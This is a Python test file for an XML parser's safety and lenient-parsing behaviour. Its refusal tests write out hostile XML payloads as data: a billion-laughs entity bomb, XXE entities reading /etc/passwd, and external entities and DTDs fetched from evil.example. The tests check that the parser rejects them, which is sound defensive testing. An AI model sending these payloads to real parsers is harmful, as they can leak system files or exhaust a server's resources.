import pytest
from hypothesis import given
from hypothesis import strategies as st

from secondsource.errors import InputError
from secondsource.intake.elements import text_of
from secondsource.intake.xml import harmless, parse_xml

LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))


@pytest.mark.parametrize(
    "document",
    [
        f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]><a>&l9;</a>',  # a bomb of entities within entities
        f'<!DOCTYPE a [<!ENTITY l "{"h" * 10_000}">]><a>{"&l;" * 100}</a>',  # one long entity, often
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        '<!DOCTYPE a [<!ENTITY x PUBLIC "-//X//X" "http://evil.example/x">]><a>&x;</a>',
        '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>',
        '<!DOCTYPE a [<!ENTITY y "<b>"><!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',  # hidden behind a tag
        "<a>" * 300 + "</a>" * 300,
        "<a>" + "x" * 11_000_000 + "</a>",
        "<a>" + "<b/>" * 2_000_001 + "</a>",
        " <!-- never closed " * 10,
        "<?xml version='1.0'?>",
        "no element",
        "<<<>>>",
    ],
    ids=lambda document: document[:40],
)
def test_what_could_do_harm_or_is_no_xml_is_refused_with_a_reason(document):
    with pytest.raises(InputError) as refused:
        parse_xml(document.encode())
    assert refused.value.reason in ("unsafe XML", "not XML")
    assert refused.value.detail


@pytest.mark.parametrize(
    ("document", "text"),
    [
        ("<a>Rain &amp; fog</a>", "Rain & fog"),
        ("<a>Rain & fog, R&D</a>", "Rain & fog, R&D"),  # ampersands that nobody escaped
        ("<a>caf&eacute;&nbsp;caf&#233; &mdash; &bogus;</a>", "café café — &bogus;"),  # names that only HTML knows
        ("<a>&LT;b&GT; &lt;b&gt;</a>", "<b> <b>"),
        ("<a>x&#0;y&#xD800;z&#x1F;</a>", "x\ufffdy\ufffdz\ufffd"),  # characters that no document may hold
        (f"<a>x\x0by{'y' * 300}</a>", "xy" + "y" * 300),
        ("<a><![CDATA[Rain & fog &nbsp; <b>]]> R&D</a>", "Rain & fog &nbsp; <b> R&D"),
        ('<!DOCTYPE a [<!ENTITY co "Coast Daily"><!ENTITY nb "&#8212;">]><a>&co; &nb;</a>', "Coast Daily —"),
        ('<!DOCTYPE a PUBLIC "-//X//DTD 1//EN" "http://x.example/a.dtd"><a>caf&eacute;</a>', "café"),
        ('<!DOCTYPE a [<!ENTITY % L PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "x.ent"> %L;]><a>x</a>', "x"),
        ("<!-- <rss> --><?x y?><a>x</a>", "x"),
        ("<a><b>Rain</c> fell</a>", "Rain fell"),  # tags that do not match
        ("<a><b>Rain fell", "Rain fell"),  # cut off
        ("<x:a><y:b>Rain</y:b></x:a>", "Rain"),  # prefixes that nobody declared
        ("<a><x:/>Rain<x:1>fell</x:1></a>", "Rainfell"),  # names that none may have
    ],
)
def test_what_is_broken_is_read_as_far_as_it_goes(document, text):
    assert text_of(parse_xml(document.encode()), ".") == text


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "iso-8859-1", "windows-1252"])
def test_the_declared_encoding_holds(encoding):
    document = f'<?xml version="1.0" encoding="{encoding}"?><a>café</a>'
    assert parse_xml(document.encode(encoding)).text == "café"


def test_elements_lose_their_prefixes():
    root = parse_xml(b'<n:a xmlns:n="urn:n"><b xmlns="urn:b"/><body.head/></n:a>')
    assert [element.tag for element in root.iter()] == ["a", "b", "body.head"]


@given(st.text(alphabet="<>&;![]?-/ab\"' #xENTITYDOC%", max_size=200))
def test_any_text_is_a_tree_or_a_refusal(text):
    try:
        harmless_text = harmless(b"<" + text.encode())
        parse_xml(b"<" + text.encode())
    except InputError as refused:
        assert refused.detail
    else:
        assert harmless_text.startswith("<")
